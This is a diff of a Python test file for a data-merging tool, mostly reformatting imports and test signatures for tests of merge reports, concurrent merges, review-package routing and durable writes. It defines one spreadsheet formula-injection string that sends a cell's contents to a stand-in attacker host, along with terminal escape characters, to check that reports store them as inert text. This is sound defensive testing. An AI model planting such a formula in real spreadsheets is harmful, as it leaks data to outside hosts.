@@ -1,5 +1,6 @@
 """Merging in the presence of hostile text, concurrent merges and review packages sent to the wrong
 laptop; writing packages and reports durably (issue 10: points 8, 9, 10, 21)."""
+
 from __future__ import annotations
 
 import errno
@@ -10,14 +11,15 @@ import openpyxl
 import pytest
 
 from yingzao.core import durable, errors
-from yingzao.core.exchange import merge as merge_module
-from yingzao.core.review import decisions as review
 from yingzao.core.errors import StoreError
+from yingzao.core.exchange import merge as merge_module
 from yingzao.core.exchange.merge import merge_package, merge_packages
 from yingzao.core.exchange.merge_report import save_report_xlsx, summary_lines
 from yingzao.core.exchange.package import pack_session
 from yingzao.core.exchange.review_package import pack_review
+from yingzao.core.review import decisions as review
 from yingzao.core.store.database import Store
+
 from tests.laptops import Laptop, canonical_dump, laptop_template  # noqa: F401  (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
@@ -51,6 +53,7 @@ def master(tmp_path):
 
 # -- 8: the merge report ---------------------------------------------------------------------
 
+
 def test_the_report_writes_hostile_text_as_text_and_always_opens(make_laptop, master, tmp_path):
     evil = make_laptop("evil", user=HOSTILE + "\x07\x1b[31m\ufffe")
     evil.interview()
@@ -70,8 +73,9 @@ def test_the_report_writes_hostile_text_as_text_and_always_opens(make_laptop, ma
     assert "\x1b" not in "".join(lines) and "\x07" not in "".join(lines)
 
 
-def test_a_report_that_cannot_be_written_leaves_nothing_behind_and_prints_nothing(make_laptop, master, tmp_path,
-                                                                                 monkeypatch):
+def test_a_report_that_cannot_be_written_leaves_nothing_behind_and_prints_nothing(
+    make_laptop, master, tmp_path, monkeypatch
+):
     wang = make_laptop("wang")
     wang.interview()
     report = merge_packages(master, [wang.pack(tmp_path / "s.yzpack")])
@@ -93,8 +97,8 @@ def test_a_report_that_cannot_be_written_leaves_nothing_behind_and_prints_nothin
 
 # -- 9: two processes merging one package ----------------------------------------------------
 
-def test_a_second_connection_merging_the_same_package_meanwhile_gets_already_merged(make_laptop, tmp_path,
-                                                                                     monkeypatch):
+
+def test_a_second_connection_merging_the_same_package_meanwhile_gets_already_merged(make_laptop, tmp_path, monkeypatch):
     wang = make_laptop("wang")
     wang.interview()
     package = wang.pack(tmp_path / "s.yzpack")
@@ -121,8 +125,10 @@ def test_a_second_connection_merging_the_same_package_meanwhile_gets_already_mer
 
 # -- 10: review packages go back to the laptop that took the interviews ------------------------
 
-def test_a_review_package_is_refused_on_a_laptop_that_did_not_take_its_interviews(make_laptop, master, tmp_path,
-                                                                                 english):
+
+def test_a_review_package_is_refused_on_a_laptop_that_did_not_take_its_interviews(
+    make_laptop, master, tmp_path, english
+):
     wang, li = make_laptop("wang", "王芳"), make_laptop("li", "李强")
     interview_id = wang.interview()
     wang.store.finalize(interview_id)
@@ -140,6 +146,7 @@ def test_a_review_package_is_refused_on_a_laptop_that_did_not_take_its_interview
 
 
 # -- 21: package files are on disk before the export is recorded ------------------------------
+
 
 def test_a_package_is_flushed_before_it_is_renamed_and_recorded(make_laptop, tmp_path, monkeypatch):
     wang = make_laptop("wang")
